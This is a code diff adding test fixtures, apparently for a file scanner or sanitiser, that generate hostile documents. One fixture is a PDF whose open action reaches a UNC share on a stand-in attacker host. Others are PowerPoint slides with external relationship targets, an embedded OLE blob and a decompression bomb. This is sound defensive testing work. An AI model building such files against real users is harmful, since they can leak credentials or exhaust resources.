@@ -73,6 +73,23 @@ def pptx(main: str = PPTX_MAIN, **parts: bytes | str) -> bytes:
     return archive({"[Content_Types].xml": types, "ppt/presentation.xml": "<p/>", **more})
 
 
+OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(500)
+RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+
+
+def pptx_with_reference(kind: str, target: str) -> bytes:
+    """Slides that refer to something outside."""
+    entry = f'<Relationship Id="r1" Type="{RELATIONS}/{kind}" Target="{target}"'
+    rels = f'<Relationships>{entry} TargetMode="External"/></Relationships>'
+    return pptx(ppt__slides___rels__slide1_dot_xml_dot_rels=rels)
+
+
+def pdf_of_elsewhere() -> bytes:
+    """A PDF that opens another one on somebody's server."""
+    share = Dictionary(S=Name.GoToE, F="\\\\evil.example\\share", D=Array([0, Name.Fit]))
+    return pdf(lambda made: setattr(made.pages[0].obj, "AA", Dictionary(O=share)))
+
+
 def bomb() -> bytes:
     """A small file that becomes 400 MB."""
     return pptx(ppt__media__x_dot_bin=bytes(400_000_000))
